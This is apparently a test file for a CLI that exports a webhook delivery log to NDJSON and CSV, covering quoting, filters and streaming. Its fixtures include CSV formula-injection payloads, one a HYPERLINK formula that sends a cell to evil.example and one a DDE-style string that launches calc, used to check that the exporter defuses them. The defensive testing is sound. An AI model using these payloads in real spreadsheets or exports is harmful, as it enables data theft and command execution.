// g2sentry export end to end: a real database written through the plugin, the published CLI
// entry (bin/g2sentry.js → dist/cli/bin.js, built by `npm test` before tap runs) in a child process,
// and the CSV read back as a spreadsheet would read it.
import t, { type Test } from 'tap'
import { parse } from 'csv-parse/sync'
import { execFile, spawn } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { setTimeout as sleep } from 'node:timers/promises'
import { promisify } from 'node:util'
import { exportLog, EXPORT_COLUMNS } from '../../src/log/export.js'
import { parseExportBound } from '../../src/cli/commands/export.js'
import { signBody, sqliteStore } from '../../src/index.js'
import { simulatedDeliveries } from '../../src/simulator/simulate.js'
import type { LogRow } from '../../src/domain/types.js'
import { BIN, ROOT, runCli, type Run } from '../helpers/cli-process.js'
import { assigned, buildApp, completed, post, SECRET } from '../helpers/helpers.js'

const execFileAsync = promisify(execFile)
const HAS_SCRIPT = await execFileAsync('script', ['--version']).then(() => true, () => false)

/** The published CLI entry with `args`, reporting the exit code; exports of large logs need a large buffer. */
const cli = (...args: string[]) => runCli(args, { maxBuffer: 64 * 1024 * 1024 })

type CsvRecord = { [column in (typeof EXPORT_COLUMNS)[number]]: string }
type NdjsonRecord = { [column in (typeof EXPORT_COLUMNS)[number]]: string | number | null }

const BOM = '\uFEFF'
const parseCsv = (text: string): CsvRecord[] => parse(text, { bom: true, columns: true, relax_column_count: false }) as CsvRecord[]
const parseNdjson = (text: string): NdjsonRecord[] => text.split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as NdjsonRecord)

// Job names from outside that a spreadsheet would run as a formula, or that need quoting.
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
const AT_NAME = '@SUM(1+1)*cmd|\' /C calc\'!A0'
const MINUS_NAME = '-2+3'
const QUOTED_NAME = 'Gala, "Riverside"\nHall\r\nEast wing'
const UNICODE_NAME = 'Café Ünïcode — 夜間警備'

const iso = (ms: number) => new Date(ms).toISOString()
const seqs = (rows: Array<{ seq: number | string | null }>) => rows.map((row) => Number(row.seq))

t.test('export on a log written through the plugin', async (t) => {
  const dir = t.testdir()
  const db = join(dir, 'g2.db')
  const app = await buildApp(t, { database: db })
  for (const { payload } of simulatedDeliveries()) t.equal((await post(app, payload)).statusCode, 200)
  // Deliveries a moment apart, so the time filters have distinct times to cut between.
  for (const [jobId, name] of [[201, FORMULA_NAME], [202, AT_NAME], [203, MINUS_NAME], [204, QUOTED_NAME], [205, UNICODE_NAME]] as const) {
    await sleep(5)
    t.equal((await post(app, assigned(jobId, { name, phone: '+15550001111' }))).statusCode, 200)
  }
  await sleep(5)
  t.equal((await post(app, completed(201, { name: FORMULA_NAME }))).statusCode, 200)
  await app.close()

  const store = sqliteStore({ filename: db })
  const log: LogRow[] = await store.readLog({ limit: 1000 })
  await store.close()
  t.equal(log.length, 17, 'seventeen deliveries in the log')

  const expectRow = (t: Test, got: NdjsonRecord | CsvRecord, row: LogRow, asText: boolean) => {
    const text = (value: string | number | null) => asText ? (value === null ? '' : String(value)) : value
    t.same(got, {
      seq: text(row.seq),
      receivedAt: iso(row.receivedAt),
      jobId: text(row.jobId),
      eventType: row.eventType,
      jobStatus: row.jobStatus,
      // A spreadsheet cell that starts with = + - @ gets an apostrophe in CSV only.
      jobName: asText && /^[=+\-@\t\r]/.test(row.jobName) ? `'${row.jobName}` : row.jobName,
      guardianPhone: asText && row.guardianPhone !== null ? `'${row.guardianPhone}` : text(row.guardianPhone),
      outcome: row.outcome,
      source: row.source,
      sameAs: text(row.sameAs),
      signature: row.signature,
      contentHash: row.contentHash,
      prevHash: text(row.prevHash),
      hash: text(row.hash),
      chainVersion: text(row.chainVersion),
      redactedBy: text(row.redactedBy),
      body: row.rawBody.toString('utf8')
    }, `seq ${row.seq}: every column as in the log`)
  }

  t.test('ndjson: every row in seq order, with outcome and hash columns', async (t) => {
    const r = await cli('export', '--db', db)
    t.equal(r.code, 0)
    t.equal(r.stderr, '', 'nothing on stderr without a terminal')
    const rows = parseNdjson(r.stdout)
    t.equal(rows.length, log.length, 'one line per log row')
    t.same(Object.keys(rows[0] ?? {}), [...EXPORT_COLUMNS], 'the columns, in order')
    rows.forEach((row, i) => expectRow(t, row, log[i] as LogRow, false))
    t.equal(rows[0]?.prevHash, '', 'the first row links to the genesis hash')
    t.equal(rows[2]?.sameAs, 2, 'the redelivery names the earlier row')
    t.same((await cli('export', '--db', db, '--format', 'ndjson')).stdout, r.stdout, 'ndjson is the default')
  })

  t.test('csv: parses back to the log, hash columns included', async (t) => {
    const r = await cli('export', '--db', db, '--format', 'csv')
    t.equal(r.code, 0)
    t.equal(r.stderr, '')
    t.ok(r.stdout.startsWith(BOM + 'seq,receivedAt,jobId,'), 'a UTF-8 byte order mark, then the header')
    t.ok(r.stdout.startsWith(BOM + EXPORT_COLUMNS.join(',') + '\r\n'), 'the header names every column and ends with CRLF')
    t.ok(r.stdout.endsWith('\r\n'), 'records end with CRLF (RFC 4180)')
    const records = parseCsv(r.stdout)
    t.equal(records.length, log.length, 'one record per log row')
    records.forEach((record, i) => expectRow(t, record, log[i] as LogRow, true))
    t.same(records.map((record) => record.hash), log.map((row) => row.hash), 'the hash column matches readLog')
    t.same(records.map((record) => record.prevHash), log.map((row) => row.prevHash), 'the prevHash column matches readLog')
    t.same(records.map((record) => record.contentHash), log.map((row) => row.contentHash), 'the contentHash column matches readLog')
    t.same(records.map((record) => record.outcome), log.map((row) => row.outcome), 'the outcome column matches readLog')
  })

  t.test('csv: quoting and formula injection', async (t) => {
    const text = (await cli('export', '--db', db, '--format', 'csv')).stdout
    const records = parseCsv(text)
    const byJob = (jobId: number) => records.find((record) => record.jobId === String(jobId)) as CsvRecord
    t.equal(byJob(201).jobName, `'${FORMULA_NAME}`, '= gets an apostrophe')
    t.equal(byJob(202).jobName, `'${AT_NAME}`, '@ gets an apostrophe')
    t.equal(byJob(203).jobName, `'${MINUS_NAME}`, '- gets an apostrophe')
    t.equal(byJob(204).jobName, QUOTED_NAME, 'commas, quotes, CR and LF survive quoting')
    t.equal(byJob(205).jobName, UNICODE_NAME, 'non-ASCII survives as UTF-8')
    t.equal(byJob(201).guardianPhone, "'+15550001111", 'a phone number is not read as a formula')
    t.ok(text.includes('"Gala, ""Riverside""\nHall\r\nEast wing"'), 'the quoted name is written per RFC 4180: doubled quotes inside quotes')
    t.ok(text.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'), 'the formula name is defused and quoted')
    for (const record of records) {
      for (const [column, value] of Object.entries(record)) {
        if (/^[=+\-@\t\r]/.test(value)) t.fail(`seq ${record.seq}: ${column} starts with a formula character: ${value}`)
      }
    }
    // The body is never defused: a JSON body starts with "{", and the raw bytes are what the hash covers.
    t.ok(records.every((record, i) => record.body === (log[i] as LogRow).rawBody.toString('utf8')), 'bodies are the raw bodies')
  })

  t.test('filters: job, seq range, time range', async (t) => {
    const at = (seq: number) => (log[seq - 1] as LogRow).receivedAt
    const between = (from: number, to: number) => log.filter((row) => row.receivedAt >= from && row.receivedAt <= to).map((row) => row.seq)
    const cases: Array<[string, string[], number[]]> = [
      ['--job 101', ['--job', '101'], [1, 2, 3, 4, 5]],
      ['--job 201', ['--job', '201'], [12, 17]],
      ['--job 999', ['--job', '999'], []],
      ['--from 3 --to 6', ['--from', '3', '--to', '6'], [3, 4, 5, 6]],
      ['--from 15', ['--from', '15'], [15, 16, 17]],
      ['--to 2', ['--to', '2'], [1, 2]],
      ['--job 101 --from 2 --to 4', ['--job', '101', '--from', '2', '--to', '4'], [2, 3, 4]],
      ['--from 7 --to 6', ['--from', '7', '--to', '6'], []],
      ['time range', ['--from', iso(at(13)), '--to', iso(at(15))], between(at(13), at(15))],
      ['time from', ['--from', iso(at(16))], between(at(16), Infinity)],
      ['time to', ['--to', iso(at(12))], between(0, at(12))],
      ['seq from, time to', ['--from', '5', '--to', iso(at(14))], between(0, at(14)).filter((seq) => seq >= 5)],
      ['a whole day', ['--from', iso(at(1)).slice(0, 10), '--to', iso(at(17)).slice(0, 10)], log.map((row) => row.seq)],
      ['a day long ago', ['--to', '2001-01-01'], []],
      ['an offset', ['--to', iso(at(12) + 3_600_000).slice(0, 23) + '+01:00'], between(0, at(12))]
    ]
    t.ok(at(13) < at(15) && at(15) < at(16), 'the later deliveries have distinct times')
    const runs = await Promise.all(cases.map(([, args]) => Promise.all([cli('export', '--db', db, ...args), cli('export', '--db', db, '--format', 'csv', ...args)])))
    runs.forEach(([ndjson, csv], i) => {
      const [name, , expected] = cases[i] as [string, string[], number[]]
      t.equal(ndjson.code, 0, `${name}: exit 0`)
      t.same(seqs(parseNdjson(ndjson.stdout)), expected, `${name}: ndjson rows ${expected.join(', ') || 'none'}`)
      t.same(seqs(parseCsv(csv.stdout)), expected, `${name}: csv rows ${expected.join(', ') || 'none'}`)
    })
    const empty = runs[7]?.[1] as Run
    t.equal(empty.stdout, BOM + EXPORT_COLUMNS.join(',') + '\r\n', 'an empty csv export still has its header')
    t.equal(runs[7]?.[0].stdout, '', 'an empty ndjson export is empty')
  })

  t.test('usage', async (t) => {
    const [help, mainHelp, badFormat, badFrom, badTo, badDate, noDb, missing] = await Promise.all([
      cli('export', '--help'),
      cli('--help'),
      cli('export', '--db', db, '--format', 'xlsx'),
      cli('export', '--db', db, '--from', 'yesterday'),
      cli('export', '--db', db, '--to', '-3'),
      cli('export', '--db', db, '--to', '2026-02-30'),
      cli('export'),
      cli('export', '--db', join(dir, 'nothing.db'))
    ])
    t.equal(help.code, 0)
    t.match(help.stdout, /^Usage: g2sentry export --db FILE\|URL/, 'export --help prints its usage')
    t.match(help.stdout, /--format\s+ndjson \(default\), or csv/)
    t.match(mainHelp.stdout, /\n\s+export\s/, 'the main usage lists export')
    t.equal(badFormat.code, 2)
    t.match(badFormat.stderr, /--format must be ndjson or csv/)
    t.equal(badFrom.code, 2)
    t.match(badFrom.stderr, /--from must be a seq or an ISO 8601 date or time, got "yesterday"/)
    t.equal(badTo.code, 2, 'a negative --to is refused')
    t.equal(badDate.code, 2, 'a date that does not exist is refused')
    t.equal(noDb.code, 2)
    t.match(noDb.stderr, /--db FILE\|URL is required/)
    t.equal(missing.code, 2)
    t.notOk(existsSync(join(dir, 'nothing.db')), 'no database is created')
  })
})

t.test('parseExportBound', async (t) => {
  t.same(parseExportBound('42', 'from'), { seq: 42 })
  t.same(parseExportBound('0', 'to'), { seq: 0 })
  const ms = Date.parse
  t.same(parseExportBound('2026-11-26', 'from'), { time: ms('2026-11-26T00:00:00.000Z') }, 'a date starts at midnight UTC')
  t.same(parseExportBound('2026-11-26', 'to'), { time: ms('2026-11-26T23:59:59.999Z') }, 'and ends at its last millisecond')
  t.same(parseExportBound('2026-11-26T23:15', 'to'), { time: ms('2026-11-26T23:15:59.999Z') }, 'a minute covers all of it')
  t.same(parseExportBound('2026-11-26T23:15:40', 'to'), { time: ms('2026-11-26T23:15:40.999Z') }, 'a second too')
  t.same(parseExportBound('2026-11-26T23:15:40.5Z', 'to'), { time: ms('2026-11-26T23:15:40.599Z') }, 'a tenth too')
  t.same(parseExportBound('2026-11-26T23:15:40.005Z', 'to'), { time: ms('2026-11-26T23:15:40.005Z') }, 'a millisecond is exact')
  t.same(parseExportBound('2026-11-26T23:15:40.005Z', 'from'), { time: ms('2026-11-26T23:15:40.005Z') })
  t.same(parseExportBound('2026-11-27T01:15:40.005+02:00', 'from'), { time: ms('2026-11-26T23:15:40.005Z') }, 'an offset is honoured')
  for (const bad of ['', 'now', '2026-13-01', '2026-02-30', '2026-11-26T24:00', '2026-11-26T23:60', '1.5', '-1', '2026-11-26Z', '9'.repeat(20)]) {
    t.equal(parseExportBound(bad, 'from'), undefined, `"${bad}" is neither a seq nor a date`)
  }
})

t.test('exportLog waits for each write and reports progress', async (t) => {
  const store = sqliteStore({ filename: join(t.testdir(), 'g2.db'), synchronous: 'NORMAL' })
  t.teardown(() => store.close())
  await appendMany(store, 3000)
  let inFlight = 0
  let overlapped = false
  let text = ''
  const progress: Array<[number, number]> = []
  const report = await exportLog(store, {
    format: 'ndjson',
    fromSeq: 1001,
    write: async (chunk) => {
      inFlight++
      if (inFlight > 1) overlapped = true
      await sleep(2)
      text += chunk
      inFlight--
    },
    progress: (done, total) => progress.push([done, total])
  })
  t.equal(report.rows, 2000)
  t.notOk(overlapped, 'a write starts only after the one before it finished')
  t.same(seqs(parseNdjson(text)), Array.from({ length: 2000 }, (_, i) => i + 1001), 'rows 1001..3000 in order')
  t.same(progress[0], [1, 2000], 'progress counts from the start of the range')
  t.same(progress.at(-1), [2000, 2000], 'and ends at its size')
})

/** Appends `n` assignments of distinct jobs, all committed before it returns. */
async function appendMany (store: ReturnType<typeof sqliteStore>, n: number): Promise<void> {
  await Promise.all(Array.from({ length: n }, (_, i) => {
    const event = { jobId: i + 1, eventType: 'JobAssigned', jobName: `Job ${i + 1}`, jobStatus: 'Assigned' as const, guardianPhone: '+15550001111' }
    const rawBody = Buffer.from(JSON.stringify(event))
    return store.append({ ...event, rawBody, signature: signBody(rawBody, SECRET), receivedAt: 1_700_000_000_000 + i })
  }))
}

t.test('a long export', async (t) => {
  const dir = t.testdir()
  const db = join(dir, 'long.db')
  const store = sqliteStore({ filename: db, synchronous: 'NORMAL' })
  await appendMany(store, 20_000)
  await store.close()

  t.test('through a pipe that is read slowly, it completes (backpressure, not buffering)', async (t) => {
    const child = spawn(process.execPath, [BIN, 'export', '--db', db, '--format', 'csv'], { cwd: ROOT })
    let stderr = ''
    child.stderr.on('data', (chunk) => { stderr += String(chunk) })
    // 'close': stderr is read to its end before it is checked.
    const exited = new Promise<number | null>((resolve) => child.once('close', resolve))
    const chunks: Buffer[] = []
    let reads = 0
    // A reader slower than the writer: the pipe fills and the child must wait for it to drain.
    const slow = new Writable({
      highWaterMark: 1024,
      write (chunk: Buffer, _encoding, callback) {
        chunks.push(chunk)
        reads++
        setTimeout(callback, 5)
      }
    })
    await pipeline(child.stdout, slow)
    t.equal(await exited, 0, 'exit code 0')
    t.equal(stderr, '', 'nothing on stderr without a terminal')
    const records = parseCsv(Buffer.concat(chunks).toString('utf8'))
    t.equal(records.length, 20_000, 'all 20,000 rows arrived')
    t.ok(records.every((record, i) => record.seq === String(i + 1)), 'in seq order, none lost or repeated')
    t.ok(reads > 50, `the reader took them in many small reads (${reads})`)
  })

  t.test('without a terminal, stderr stays empty', async (t) => {
    const piped = await cli('export', '--db', db, '--format', 'csv')
    t.equal(piped.code, 0)
    t.equal(piped.stderr, '', 'no progress on a pipe')
  })

  t.test('on a terminal, stderr shows one progress line', {
    skip: HAS_SCRIPT ? false : 'script(1) from util-linux is not installed: no pseudo-terminal to give the export'
  }, async (t) => {
    const out = join(dir, 'out.csv')
    const quote = (s: string) => `'${s.replace(/'/g, "'\\''")}'`
    const exportTo = (args: string) => `${quote(process.execPath)} ${quote(BIN)} export --db ${quote(db)} ${args} > ${quote(out)}`
    // stdout goes to a file, so what the pseudo-terminal shows is stderr alone.
    const { stdout: terminal } = await execFileAsync('script', ['-qec', exportTo('--format csv'), '/dev/null'], { cwd: ROOT, timeout: 60_000 })
    t.match(terminal, /\rexporting [\d,]+ \/ 20,000 \(\d+%\)/, 'a progress line, drawn with a carriage return')
    t.notMatch(terminal, /\n/, 'on a single line')
    t.match(terminal, /\r +\r$/, 'cleared at the end')
    t.equal(parseCsv(readFileSync(out, 'utf8')).length, 20_000, 'and the export itself is whole')

    const short = await execFileAsync('script', ['-qec', exportTo('--to 100'), '/dev/null'], { cwd: ROOT, timeout: 30_000 })
    t.equal(short.stdout, '', 'a short export shows no progress, even on a terminal')
  })
})
